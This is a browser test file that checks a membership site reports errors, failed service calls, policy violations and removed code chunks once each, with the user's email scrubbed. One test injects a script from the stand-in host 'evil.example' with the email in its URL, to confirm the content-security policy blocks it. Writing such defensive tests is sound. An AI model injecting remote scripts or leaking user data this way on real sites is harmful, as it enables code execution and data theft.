import { expect, inject, test } from 'vitest'
import type { Report } from '../../src-core/ports/reports'
import { en } from '../support/english'
import { scriptWith } from '../support/browser/visitor'
import { openVisitor } from './visit'

const email = 'mira.lund@example.org'

/** A visitor on the plans, whose reports are recorded as they leave the browser; `missing` are files that do not load. */
async function openReported(missing: (address: URL) => boolean = () => false) {
  const errors = /made up|evil\.example|status of 500|ERR_FAILED|imported module|A screen failed to render/
  const opened = await openVisitor({ refused: /evil\.example/, errors })
  const { context, page, visitor } = opened
  const reports: Report[] = []
  context.on('request', (request) => {
    if (request.url().endsWith('/reports')) reports.push(request.postDataJSON() as Report)
  })
  await context.route(missing, (route) => route.abort())
  const reporter = scriptWith(page, 'sendBeacon')
  await visitor.goTo('/membership')
  await (await reporter).finished()
  const { release } = (await (await page.request.get('/version.json')).json()) as { release: string }
  const expectReports = async (...expected: object[]) => {
    await expect.poll(() => reports).toHaveLength(expected.length)
    expect(reports).toMatchObject(expected.map((report) => ({ ...report, release })))
    expect(JSON.stringify(reports)).not.toContain('mira')
  }
  return { ...opened, expectReports }
}

test('an error, a failed call and a violation are each reported once, scrubbed', async () => {
  const { visitor, page, context, expectReports } = await openReported()
  await page.evaluate((address) => {
    for (const _ of [1, 2])
      queueMicrotask(() => {
        throw new TypeError(`made up for ${address}`)
      })
  }, email)
  const thrown = { type: 'uncaught', message: 'TypeError: made up for [email]', route: '/membership' }
  await expectReports(thrown)

  await context.route(`${inject('service')}/**`, (route) =>
    route.fulfill({ status: 500, headers: { 'access-control-allow-origin': '*' }, json: { email } }),
  )
  await visitor.applyCode('CALM50')
  const failed = { type: 'log', level: 'warning', call: 'previewPrice', kind: 'service-error' }
  await expectReports(thrown, failed)

  await page.evaluate((address) => {
    const script = document.createElement('script')
    script.src = `https://evil.example/${address}.js`
    document.head.append(script)
  }, email)
  await expectReports(thrown, failed, { type: 'policy', kind: 'script-src-elem' })
})

/** The scripts that a page loads at once. */
async function scriptsOf(path: string): Promise<readonly string[]> {
  const html = await (await fetch(inject('address') + path)).text()
  return [...html.matchAll(/"(\/assets\/[^"]+\.js)"/g)].map(([, script]) => script ?? '')
}

test('a chunk that a deployment removed is reported once, though the page reloads', async () => {
  const [plans, signUp] = await Promise.all(['/membership', '/signup'].map(scriptsOf))
  const removed = signUp?.find((script) => !plans?.includes(script))
  const isRemoved = ({ pathname }: URL) => pathname === removed
  const { visitor, page, context, expectReports } = await openReported(isRemoved)
  await page.route('**/signup', async (route) => {
    await context.unroute(isRemoved)
    await route.continue()
  })
  await visitor.continueToSignUp()
  await expect(visitor.field(en.fields.password)).toBeShown()
  await expectReports({ type: 'chunk', level: 'error' })
})
